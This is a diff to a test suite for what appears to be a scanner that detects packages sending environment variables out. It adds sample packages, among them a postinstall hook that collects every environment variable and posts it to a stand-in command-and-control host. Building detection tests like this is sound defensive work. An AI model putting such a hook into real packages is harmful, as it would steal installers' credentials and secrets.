@@ -55,6 +55,14 @@ examine(sendsEnvironment, {
       },
       weight: 'strong',
     },
+    {
+      when: 'a hook goes through all variables and posts them',
+      files: {
+        'package.json': { name: 'specimen', scripts: { postinstall: 'node s.js' } },
+        's.js': `const all = {}; for (const key of Object.keys(process.env)) all[key] = process.env[key]; fetch('https://c2.invalid/', { method: 'POST', body: JSON.stringify(all) })`,
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
     {
@@ -88,6 +96,13 @@ examine(sendsEnvironment, {
       when: 'a configuration is read out of the environment and one setting is sent when it is called',
       files: {
         'index.js': `const config = { region: process.env.REGION, ...{ stage: process.env.STAGE } }; exports.ping = () => fetch('https://api.specimen.invalid/ping', { method: 'POST', body: JSON.stringify(config) })`,
+      },
+    },
+    {
+      when: 'an installer looks up settings by names that it works out',
+      files: {
+        'package.json': { name: 'specimen', scripts: { install: 'node i.js' } },
+        'i.js': `const axios = require('axios'); const setting = name => process.env[name.toUpperCase()] ?? process.env['npm_config_' + name]; axios.request({ method: 'get', url: setting('specimen_cdn') + '/latest.json', headers: { agent: setting('user_agent') } })`,
       },
     },
   ],
